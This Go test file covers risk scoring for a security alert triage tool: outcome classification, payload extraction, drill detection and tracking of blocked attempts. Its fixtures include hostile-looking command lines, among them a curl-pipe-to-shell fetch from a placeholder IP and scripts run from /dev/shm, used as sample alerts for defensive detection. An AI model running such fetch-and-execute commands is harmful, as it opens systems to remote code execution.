package risk

import (
	"slices"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/triage-dev/triage/pkg/alert"
	"github.com/triage-dev/triage/pkg/config"
)

func TestOutcomeOf(t *testing.T) {
	for _, c := range []struct {
		fields        []string
		state, reason string
		denied        bool
	}{
		{[]string{"evt.res", "EACCES"}, OutcomeBlocked, "EACCES", true},
		{[]string{"evt.res", "EPERM"}, OutcomeBlocked, "EPERM", true},
		{[]string{"evt.res", "ENOENT"}, OutcomeBlocked, "ENOENT", false},
		{[]string{"evt.res", "SUCCESS"}, OutcomeSucceeded, "", false},
		{[]string{"evt.res", "EINPROGRESS"}, "", "", false},
		{[]string{"evt.res", "<NA>"}, "", "", false},
		{[]string{"evt.rawres", "-13"}, OutcomeBlocked, "EACCES", true},
		{[]string{"evt.rawres", "3"}, OutcomeSucceeded, "", false},
		{[]string{"evt.failed", "true"}, OutcomeBlocked, "error", false},
		{[]string{"ka.response.code", "403"}, OutcomeBlocked, "403", true},
		{[]string{"ka.response.code", "404"}, OutcomeBlocked, "404", false},
		{[]string{"ka.response.code", "201"}, OutcomeSucceeded, "", false},
		{[]string{"ka.auth.decision", "forbid"}, OutcomeBlocked, "forbid", true},
		{[]string{"ct.error", "AccessDenied"}, OutcomeBlocked, "AccessDenied", true},
		{[]string{"ct.error", "Client.UnauthorizedOperation"}, OutcomeBlocked, "Client.UnauthorizedOperation", true},
		{[]string{"ct.error", "x:y z"}, OutcomeBlocked, "x_y_z", false},
		{[]string{"okta.result", "DENY"}, OutcomeBlocked, "DENY", true},
		{[]string{"okta.result", "FAILURE"}, OutcomeBlocked, "FAILURE", false},
		{[]string{"okta.result", "SUCCESS"}, OutcomeSucceeded, "", false},
		{[]string{"okta.result", "CHALLENGE"}, "", "", false},
		{[]string{"gcp.authorizationInfo", `[{"granted":false,"permission":"x"}]`}, OutcomeBlocked, "PERMISSION_DENIED", true},
		{[]string{"gcp.authorizationInfo", `[{"granted":true,"permission":"x"}]`}, OutcomeSucceeded, "", false},
		{nil, "", "", false},
	} {
		o := OutcomeOf(mk(alert.PriorityWarning, nil, c.fields...))
		assert.Equal(t, c.state, o.State, "%v", c.fields)
		assert.Equal(t, c.reason, o.Reason, "%v", c.fields)
		assert.Equal(t, c.denied, o.Denied, "%v", c.fields)
	}
}

func TestPayload(t *testing.T) {
	for _, c := range []struct {
		fields []string
		want   string
	}{
		{[]string{"proc.exepath", "/bin/busybox", "proc.name", "busybox", "proc.cmdline", "busybox sh /dev/shm/x.sh"}, "/dev/shm/x.sh"},
		{[]string{"proc.exepath", "/bin/busybox", "proc.name", "sh", "proc.cmdline", "sh -c /dev/shm/x.sh arg"}, "/dev/shm/x.sh"},
		{[]string{"proc.exepath", "/bin/busybox", "proc.name", "falco-event-gen", "proc.cmdline", "falco-event-gen /dev/shm/y.sh"}, "/dev/shm/y.sh"},
		{[]string{"proc.exepath", "/bin/busybox", "proc.name", "wget", "proc.cmdline", "wget http://x/y"}, "/bin/busybox"},
		{[]string{"proc.exepath", "/usr/bin/bash", "proc.name", "bash", "proc.cmdline", "bash -c curl -s http://203.0.113.9/x | sh"}, ""},
		{[]string{"proc.exepath", "/usr/bin/bash", "proc.name", "bash", "proc.cmdline", "bash -x -o pipefail ./run.sh", "proc.cwd", "/tmp/"}, "/tmp/run.sh"},
		{[]string{"proc.exepath", "/usr/bin/python3.12", "proc.name", "python3", "proc.cmdline", "python3 -W ignore /opt/a.py"}, "/opt/a.py"},
		{[]string{"proc.exepath", "/usr/bin/python3.12", "proc.name", "python3", "proc.cmdline", "python3 -c import os"}, ""},
		{[]string{"proc.exepath", "/usr/bin/python3.12", "proc.name", "python3", "proc.cmdline", "python3 -m http.server"}, ""},
		{[]string{"proc.exepath", "/usr/bin/perl", "proc.name", "perl", "proc.cmdline", "perl -e print"}, ""},
		{[]string{"proc.exepath", "/usr/bin/gawk", "proc.name", "awk", "proc.cmdline", "awk -f /dev/shm/a.awk"}, "/dev/shm/a.awk"},
		{[]string{"proc.exepath", "/usr/bin/pwsh", "proc.name", "pwsh", "proc.cmdline", "pwsh -File /tmp/a.ps1"}, "/tmp/a.ps1"},
		{[]string{"proc.exepath", "/dev/shm/.x/run", "proc.name", "run", "proc.cmdline", "run -d"}, "/dev/shm/.x/run"},
		{[]string{"proc.exepath", "memfd:program", "proc.name", "3", "proc.cmdline", "3 run helper.DoNothing"}, "memfd:program"},
		{nil, ""},
	} {
		assert.Equal(t, c.want, Payload(mk(alert.PriorityWarning, nil, c.fields...)), "%v", c.fields)
	}
}

func TestDrillEvidence(t *testing.T) {
	actors := drillActors(config.Default().Risk)
	drill := func(fields ...string) (string, string) {
		return drillOf(viewOf(mk(alert.PriorityWarning, nil, fields...)), actors)
	}
	name, ev := drill("container.image.repository", "docker.io/falcosecurity/event-generator")
	assert.Equal(t, [2]string{"event-generator", EvidenceImage}, [2]string{name, ev})
	name, ev = drill("proc.pname", "event-generator", "proc.pexepath", "/bin/event-generator")
	assert.Equal(t, [2]string{"event-generator", EvidenceAncestry}, [2]string{name, ev})
	name, _ = drill("proc.aname[3]", "event-generator", "proc.aexepath[3]", "/usr/local/bin/event-generator")
	assert.Equal(t, "event-generator", name)
	name, _ = drill("proc.pname", "event-generator")
	assert.Empty(t, name, "a name alone")
	name, _ = drill("proc.pname", "event-generator", "proc.pexepath", "/tmp/evil")
	assert.Empty(t, name, "the name with another executable")
	name, _ = drill("proc.pcmdline", "event-generator run syscall --all")
	assert.Empty(t, name, "a command line alone")
	name, _ = drill("container.image.repository", "docker.io/evil/falcosecurity-event-generator")
	assert.Empty(t, name)

	// The built-in list in config names exactly the built-ins here.
	got := BuiltinDrillNames()
	slices.Sort(got)
	want := slices.Clone(config.BuiltinDrills)
	slices.Sort(want)
	assert.Equal(t, want, got)
}

func TestScoreOutcomeAndDrill(t *testing.T) {
	s := scorerWith("")
	base := mk(alert.PriorityWarning, []string{"maturity_stable"}, "user.uid", "0", "proc.exepath", "/dev/shm/x", "evt.res", "SUCCESS")
	in := Input{Alert: base, Tactic: "TA0002", KnownRule: true}
	ok := s.Score(in)
	// 55 × 0.90 = 49.5 + 10 (root) + 10 (tmpfs) = 69.5 → 70.
	assert.Equal(t, 70, ok.Score)

	blocked := in
	blocked.Alert = withField(base, "evt.res", "EACCES")
	b := s.Score(blocked)
	// 69.5 × 0.5 = 34.75 → 35.
	assert.Equal(t, 35, b.Score)
	assert.Equal(t, "blocked=EACCES:x0.50", b.Factors[len(b.Factors)-1])

	blocked.PriorBlocked = 2
	assert.Equal(t, 45, s.Score(blocked).Score) // 34.75 + 10
	blocked.PriorBlocked = 9
	assert.Equal(t, 50, s.Score(blocked).Score) // + 15 at most

	after := in
	after.PriorBlocked = 1
	a := s.Score(after)
	assert.Equal(t, 85, a.Score) // 69.5 + 15
	assert.Contains(t, a.Factors, "after_blocked_attempt:+15")

	// A blocked attempt never scores more than its success.
	low := Input{Alert: mk(alert.PriorityDebug, nil, "evt.res", "EACCES"), PriorBlocked: 3}
	lowOK := Input{Alert: mk(alert.PriorityDebug, nil, "evt.res", "SUCCESS")}
	assert.LessOrEqual(t, s.Score(low).Score, s.Score(lowOK).Score)

	// The failure is what some rules detect: no discount.
	k8s := mk(alert.PriorityWarning, nil, "ka.response.code", "403")
	k8s.Rule = "K8s Secret Get Unsuccessfully Tried"
	assert.NotContains(t, s.Score(Input{Alert: k8s, KnownRule: true}).Factors, "blocked=403:x0.50")

	drill := in
	drill.Alert = withField(base, "container.image.repository", "falcosecurity/event-generator")
	d := s.Score(drill)
	assert.Equal(t, DrillCap, d.Score)
	assert.Equal(t, "event-generator", d.Drill)
	name, ev := DrillOf(d.Factors)
	assert.Equal(t, [2]string{"event-generator", EvidenceImage}, [2]string{name, ev})
}

func TestAttempts(t *testing.T) {
	tr := NewAttempts(600, func(dst []byte, a *alert.Alert) []byte { return append(dst, a.Hostname...) })
	at := func(host string, sec int64) *alert.Alert {
		a := mk(alert.PriorityWarning, nil)
		a.Hostname, a.Time = host, sec*1e9
		return a
	}
	blocked := &Result{Outcome: Outcome{State: OutcomeBlocked}}
	assert.Equal(t, 0, tr.Prior(at("h", 100)))
	tr.Observe(at("h", 100), blocked)
	tr.Observe(at("h", 200), blocked)
	assert.Equal(t, 2, tr.Prior(at("h", 300)))
	assert.Equal(t, 0, tr.Prior(at("other", 300)))
	assert.Equal(t, 0, tr.Prior(at("h", 50)), "older than every attempt")
	assert.Equal(t, 0, tr.Prior(at("h", 900)), "a window after the last")
	tr.Observe(at("h", 300), &Result{Outcome: Outcome{State: OutcomeBlocked}, Drill: "event-generator"})
	assert.Equal(t, 2, tr.Prior(at("h", 400)), "drills are not recorded")
	tr.Observe(at("h", 2000), blocked)
	assert.Equal(t, 1, tr.Prior(at("h", 2100)), "a new run")
	assert.Equal(t, 1, tr.Drop(func(id string) bool { return id == "h" }))
	assert.Equal(t, 0, tr.Len())

	small := NewAttempts(600, func(dst []byte, a *alert.Alert) []byte { return append(dst, a.Hostname...) })
	small.max = 4
	for i := range int64(10) {
		small.Observe(at(string(rune('a'+i)), 100+i), blocked)
		assert.LessOrEqual(t, small.Len(), 4)
	}
}

func TestWildMatch(t *testing.T) {
	for _, c := range []struct {
		p, s string
		ok   bool
	}{
		{"*/event-generator", "/bin/event-generator", true},
		{"*/event-generator", "/bin/event-generator2", false},
		{"event-generator run*", "event-generator run syscall --all", true},
		{"* run helper.*", "3 run helper.DoNothing", true},
		{"*Invoke-AtomicTest*", "pwsh -c Invoke-AtomicTest T1059", true},
		{"a?c", "abc", true},
		{"a?c", "ac", false},
		{"", "", true},
		{"", "x", false},
	} {
		assert.Equal(t, c.ok, config.WildMatch(c.p, c.s), "%q %q", c.p, c.s)
	}
}
